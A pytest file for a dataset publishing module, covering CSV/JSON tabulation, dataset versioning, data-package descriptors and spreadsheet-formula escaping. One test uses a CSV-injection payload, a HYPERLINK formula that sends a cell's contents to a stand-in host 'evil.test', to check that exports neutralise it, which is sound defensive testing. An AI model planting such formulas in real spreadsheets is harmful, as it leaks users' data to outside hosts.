"""Datasets described, tabulated and versioned (publishing/domain.py): CSV and JSON of the same
rows, values not shown, versions that follow what changed, and the package descriptor."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from digitalstate.publishing.domain import (
    LICENCES,
    Content,
    DatasetSpec,
    Field,
    ForeignKey,
    Missing,
    Publisher,
    ResourceSpec,
    as_written,
    changes,
    data_package,
    next_version,
    spreadsheet_safe,
    tabulate,
)
from digitalstate.settings import LICENCE_IDS

NOW = datetime(2026, 5, 1, tzinfo=UTC)
ITEMS = ResourceSpec(
    "items",
    "Items",
    "One row per item.",
    (
        Field("id", "string", "Id", required=True, unique=True),
        Field("day", "date", "Day"),
        Field("amount", "number", "Amount"),
        Field("shown", "boolean", "Shown"),
        Field("count", "integer", "Count"),
    ),
    primary_key=("id",),
    missing_values=("", "c"),
)
NOTES = ResourceSpec(
    "notes",
    "Notes",
    "Notes on items.",
    (Field("item", "string", "Item"), Field("text", "string", "Text")),
    foreign_keys=(ForeignKey(("item",), "items", ("id",)),),
)
SPEC = DatasetSpec("things", "Things", "Things we keep.", (ITEMS, NOTES))
PUBLISHER = Publisher("node-a", "Node A", "http://node-a.test", LICENCES["OGL-UK-3.0"])


def content(*rows: tuple[object, ...], spec: DatasetSpec = SPEC) -> Content:
    tables = [tabulate(ITEMS, rows)] + [tabulate(r, []) for r in spec.resources[1:]]
    return Content(spec, tuple(tables))


def test_csv_and_json_hold_the_same_rows_each_in_its_own_form() -> None:
    table = tabulate(
        ITEMS,
        [
            ("a", date(2026, 4, 1), Decimal("12.50"), True, 3),
            ('b,"c"', None, Decimal("-7"), False, Missing("c")),
        ],
    )

    assert table.csv.decode().splitlines() == [
        "id,day,amount,shown,count",
        "a,2026-04-01,12.50,true,3",
        '"b,""c""",,-7,false,c',
    ]
    assert json.loads(table.json) == [
        {"id": "a", "day": "2026-04-01", "amount": 12.5, "shown": True, "count": 3},
        {"id": 'b,"c"', "day": None, "amount": -7, "shown": False, "count": None},
    ]
    assert table.rows == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_is_text_in_the_csv_and_as_written_in_the_json(
    start: str,
) -> None:
    written = f'{start}HYPERLINK("http://evil.test/?"&A1)'

    table = tabulate(NOTES, [("a", written)])

    (row,) = list(csv.DictReader(io.StringIO(table.csv.decode(), newline="")))
    assert row == {"item": "a", "text": "'" + written}
    assert json.loads(table.json) == [{"item": "a", "text": written}]


def test_a_negative_number_stays_a_number_in_the_csv() -> None:
    table = tabulate(ITEMS, [("a", None, Decimal("-250.00"), False, -3)])

    assert table.csv.decode().splitlines()[1] == "a,,-250.00,false,-3"


def test_a_row_of_the_wrong_length_is_refused() -> None:
    with pytest.raises(ValueError, match="has 2 values, not 5"):
        tabulate(ITEMS, [("a", None)])


def test_new_rows_are_a_minor_version_and_a_new_schema_a_major_one() -> None:
    first = next_version(None, SPEC, content(("a", None, 1, True, 1)), NOW)
    assert first is not None and first.number == "1.0.0"
    assert next_version(first, SPEC, content(("a", None, 1, True, 1)), NOW) is None
    second = next_version(
        first, SPEC, content(("a", None, 1, True, 1), ("b", None, 2, True, 1)), NOW
    )
    assert second is not None and second.number == "1.1.0"
    narrower = DatasetSpec("things", "Things", "Things we keep.", (ITEMS,))
    third = next_version(second, narrower, content(("a", None, 1, True, 1), spec=narrower), NOW)
    assert third is not None and third.number == "2.0.0"

    history = changes([first, third, second])

    assert [c.version.number for c in history] == ["2.0.0", "1.1.0", "1.0.0"]
    assert history[0].schema_changed and not history[1].schema_changed
    assert history[1].rows["items"] == (1, 2) and history[2].rows["items"] == (None, 1)


def test_the_package_describes_every_table_with_its_file_hash_and_keys() -> None:
    made = content(("a", None, 1, True, 1))
    version = next_version(None, SPEC, made, NOW)
    assert version is not None

    package = data_package(SPEC, PUBLISHER, version, made, "http://node-a.test/datasets/things")

    assert package["name"] == "node-a-things" and package["version"] == "1.0.0"
    assert package["licenses"][0]["name"] == "OGL-UK-3.0"
    items, notes = package["resources"]
    assert items["path"] == "http://node-a.test/datasets/things/items.csv"
    assert items["hash"] == "sha256:" + made.tables[0].csv_sha256
    assert items["bytes"] == len(made.tables[0].csv)
    assert items["schema"]["primaryKey"] == ["id"]
    assert items["schema"]["missingValues"] == ["", "c"]
    assert notes["schema"]["foreignKeys"] == [
        {"fields": ["item"], "reference": {"resource": "items", "fields": ["id"]}}
    ]


@pytest.mark.parametrize(
    ("name", "resources", "frequency", "why"),
    [
        ("Things", (ITEMS,), "monthly", "lower-case"),
        ("things", (), "monthly", "resources"),
        ("things", (ITEMS, ITEMS), "monthly", "resources"),
        ("things", (ITEMS,), "fortnightly", "update frequency"),
    ],
)
def test_a_dataset_badly_described_is_refused(
    name: str, resources: tuple[ResourceSpec, ...], frequency: str, why: str
) -> None:
    with pytest.raises(ValueError, match=why):
        DatasetSpec(name, "T", "D", resources, update_frequency=frequency)


def test_the_settings_know_the_licences_the_domain_describes() -> None:
    assert set(LICENCE_IDS) == set(LICENCES)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "-250", "+44 121", "@sum", "\tx", "plain", "'quoted", "", "'", "'=1", "''+2", "'-"],
)
def test_a_csv_text_cell_reads_back_as_written(text: str) -> None:
    assert as_written(spreadsheet_safe(text)) == text


def test_a_text_written_with_a_quote_before_a_formula_keeps_it_in_a_spreadsheet() -> None:
    """A spreadsheet hides one ': '=1 as written would show as =1 (and read back so)."""
    assert spreadsheet_safe("'=1") == "''=1"
    assert spreadsheet_safe("'quoted") == "'quoted"
